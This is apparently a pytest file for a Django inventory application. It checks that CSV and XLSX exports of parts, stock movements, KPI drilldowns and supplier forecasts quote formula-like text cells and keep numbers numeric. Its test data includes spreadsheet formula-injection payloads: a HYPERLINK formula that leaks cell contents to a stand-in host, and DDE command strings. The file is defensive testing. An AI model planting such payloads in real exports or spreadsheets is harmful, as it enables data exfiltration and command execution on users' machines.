"""Hostile cells in every download: no cell of a CSV or XLSX export is a formula.

Texts that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
are stored in parts, bins, movements and suppliers' part numbers, then every
export is read back with the csv module and openpyxl: a text cell starts with
an apostrophe, numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.exports import spreadsheet_cell
from core.roles import Role
from inventory import services
from inventory.models import Part
from kpis import services as kpi_services
from suppliers.models import SupplierPart

from .factories import BinFactory, PartFactory, UserFactory, WarehouseFactory
from .kpis.handmade import MARCH, build_handmade_month
from .planning.builders import make_supplier, make_supplier_part, supplier_user
from .planning.test_portal_and_screens import _forecast

pytestmark = pytest.mark.usefixtures("postgres")

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(response) -> list[list[str]]:
    body = response.getvalue() if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_cells(response) -> list[tuple]:
    body = response.getvalue() if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return list(sheet.iter_rows(values_only=True))


def _assert_safe(response, file_format: str, texts_expected: int) -> list:
    """No cell runs: every text starting like a formula is quoted; ``texts_expected`` hostile cells seen."""
    assert response.status_code == 200
    rows = _csv_cells(response) if file_format == "csv" else _xlsx_cells(response)
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(TRIGGERS) or _is_number(cell), repr(cell)
    # (XML reads a carriage return back as a line feed.)
    quoted = [c for c in cells if isinstance(c, str) and c[:1] == "'" and c[1:2] in (*TRIGGERS, "\n")]
    assert len(quoted) >= texts_expected
    return rows


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_the_cell_rule_quotes_texts_and_keeps_numbers():
    assert [spreadsheet_cell(text) for text in HOSTILE_TEXTS] == ["'" + text for text in HOSTILE_TEXTS]
    assert spreadsheet_cell(Decimal("-5.5")) == Decimal("-5.5")
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("plain") == "plain"


@pytest.fixture
def hostile_ledger(db):
    store = WarehouseFactory(code="EXP1")
    manager = UserFactory(roles=[Role.MANAGER])
    shelf = BinFactory(warehouse=store, code="=B1")
    for index, text in enumerate(HOSTILE_TEXTS):
        part = PartFactory(number=f"EXP-{index}", description=text, category=text[:20])
        services.stock_receive(
            part=part, warehouse=store, quantity=Decimal(5), unit_cost=Decimal(2), user=manager, bin=shelf
        )
        services.stock_issue(part=part, warehouse=store, quantity=Decimal(2), user=manager, document_ref=text[:60])
    return manager


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["parts", "stock-levels", "movements"])
def test_list_exports_write_no_formula(client, hostile_ledger, name, file_format):
    client.force_login(hostile_ledger)

    response = client.get(reverse("imports:export", args=[name, file_format]))

    rows = _assert_safe(response, file_format, texts_expected=len(HOSTILE_TEXTS))
    if name == "movements":
        quantities = [row[rows[0].index("quantity")] for row in rows[1:]]
        # An issue leaves as a negative number, still a number.
        assert sorted({Decimal(str(q)) for q in quantities}) == [Decimal(-2), Decimal(5)]
        if file_format == "xlsx":
            assert all(isinstance(q, int | float) for q in quantities)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("kpi", ["dead_stock", "over_max", "first_pick"])
def test_kpi_drilldown_exports_write_no_formula(client, make_user, kpi, file_format):
    build_handmade_month()
    kpi_services.month_close_run(month=MARCH)
    Part.objects.update(description=HOSTILE_TEXTS[0])
    client.force_login(make_user("planner"))

    response = client.get(reverse("kpis:drilldown", args=[kpi]), {"month": "2026-03", "export": file_format})

    _assert_safe(response, file_format, texts_expected=1)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_supplier_forecast_download_writes_no_formula(client, file_format):
    supplier = make_supplier("EVIL")
    part = PartFactory(number="FC-1", description=HOSTILE_TEXTS[3])
    make_supplier_part(supplier, part)
    SupplierPart.objects.filter(supplier=supplier, part=part).update(supplier_part_number="=cmd")
    _forecast(part, WarehouseFactory(), "3")
    client.force_login(supplier_user(supplier))

    response = client.get("/planning/portal/forecast/download/", {"format": file_format})

    _assert_safe(response, file_format, texts_expected=2)
